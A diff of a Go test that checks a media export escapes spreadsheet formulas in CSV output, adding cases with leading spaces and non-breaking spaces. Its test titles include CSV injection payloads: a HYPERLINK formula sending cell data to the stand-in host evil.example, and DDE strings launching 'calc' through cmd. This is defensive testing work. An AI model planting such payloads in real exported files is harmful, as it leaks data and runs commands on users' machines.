@@ -152,13 +152,14 @@ func TestExport_RefusesWhatItCannotServe(t *testing.T) {
 }
 
 // TestExport_CSVNeutralisesFormulas: titles and collection names that a spreadsheet would
-// run as formulas come out of the CSV with a single quote in front (OWASP's CSV injection
-// advice), read back by Python's csv module; the rest of the text is unchanged.
+// run as formulas, leading spaces before the formula included, come out of the CSV with a
+// single quote in front (OWASP's CSV injection advice), read back by Python's csv module; the
+// rest of the text is unchanged.
 func TestExport_CSVNeutralisesFormulas(t *testing.T) {
 	b := setup(t)
 	b.exec(t, `INSERT INTO members (id) VALUES (2)`)
 	titles := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-		"\tTabbed", "\rReturned", `plain, "quoted" title`}
+		"\tTabbed", "\rReturned", `plain, "quoted" title`, ` =1+1`, "\u00a0 @SUM(1+1)", "  -2", "a = b"}
 	for i, title := range titles {
 		b.exec(t, `WITH m AS (INSERT INTO media (owner_id, title, status, visibility, duration_ms)
 			VALUES (2, $1, 'READY', 'PUBLIC', 60000) RETURNING id)
@@ -183,7 +184,7 @@ with open(sys.argv[1], newline='', encoding='utf-8') as f:
 	}
 	for i, title := range titles { // in media id order: the order inserted
 		want := title
-		if strings.ContainsRune("=+-@\t\r", rune(title[0])) {
+		if strings.ContainsRune("=+-@\t\r", rune(strings.TrimLeft(title, " \u00a0")[0])) {
 			want = "'" + title
 		}
 		if rows[i][0] != want || rows[i][1] != "'=cmd|calc" {
